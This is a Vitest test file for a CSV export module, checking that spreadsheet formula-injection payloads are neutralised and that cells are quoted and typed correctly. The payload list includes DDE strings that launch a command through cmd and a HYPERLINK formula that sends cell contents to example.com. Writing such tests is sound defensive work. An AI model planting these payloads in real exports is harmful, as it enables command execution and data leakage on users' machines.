import { describe, expect, it } from "vitest";
import { csvCell, csvSafeText } from "../server/csv-safe.ts";
import { csvStream } from "../server/csv-stream.ts";
import { parseCsv, streamText } from "./exports/helpers.ts";

// Payloads from OWASP's "CSV Injection" page and the issue: each would run or hide a formula
// in Excel, LibreOffice or Google Sheets if written as is.
const INJECTIONS = [
  "=cmd|' /C calc'!A0",
  "+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "-2",
  "-2+3+cmd|' /C calc'!A0",
  "\r=1+1",
  '=HYPERLINK("http://example.com?x="&A1,"Click")',
];

describe("csvSafeText", () => {
  it.each(INJECTIONS)("makes %j inert with a leading apostrophe", (payload) => {
    expect(csvSafeText(payload)).toBe(`'${payload}`);
  });

  it("leaves ordinary text alone, including a formula character later in the text", () => {
    expect(csvSafeText("More hours please")).toBe("More hours please");
    expect(csvSafeText("a=b")).toBe("a=b");
    expect(csvSafeText("")).toBe("");
  });
});

describe("csvCell", () => {
  it("keeps numbers as numbers, -2 included, and writes booleans as 1/0", () => {
    expect(csvCell(-2)).toBe(-2);
    expect(csvCell(0.25)).toBe(0.25);
    expect(csvCell(true)).toBe(1);
    expect(csvCell(false)).toBe(0);
  });

  it("writes nothing for missing values and ISO dates for dates", () => {
    expect(csvCell(undefined)).toBe("");
    expect(csvCell(null)).toBe("");
    expect(csvCell(Number.NaN)).toBe("");
    expect(csvCell(new Date("2024-01-05T10:00:00Z"))).toBe("2024-01-05T10:00:00.000Z");
  });

  it("makes JSON of objects inert too", () => {
    expect(csvCell({ a: 1 })).toBe('{"a":1}');
  });
});

describe("csvStream", () => {
  it("writes every payload inert and reads back cell for cell", async () => {
    const text = await streamText(csvStream([["payload"], ...INJECTIONS.map((p) => [p])]));
    expect(parseCsv(text)).toEqual([["payload"], ...INJECTIONS.map((p) => [`'${p}`])]);
  });

  it("starts with a byte-order mark only when asked", async () => {
    const withBom = await streamText(csvStream([["é"]], { bom: true }));
    const without = await streamText(csvStream([["é"]]));
    expect(withBom.startsWith("\uFEFF")).toBe(true);
    expect(without.startsWith("\uFEFF")).toBe(false);
    expect(without).toBe("é\r\n");
  });

  it("quotes commas, quotes and line breaks", async () => {
    const cells = ["a,b", 'say "hi"', "two\nlines"];
    const text = await streamText(csvStream([cells]));
    expect(parseCsv(text)).toEqual([cells]);
  });

  it("passes an error in the rows on to the reader", async () => {
    async function* failing() {
      yield ["ok"];
      throw new Error("database went away");
    }
    await expect(streamText(csvStream(failing()))).rejects.toThrow(/database went away/);
  });
});
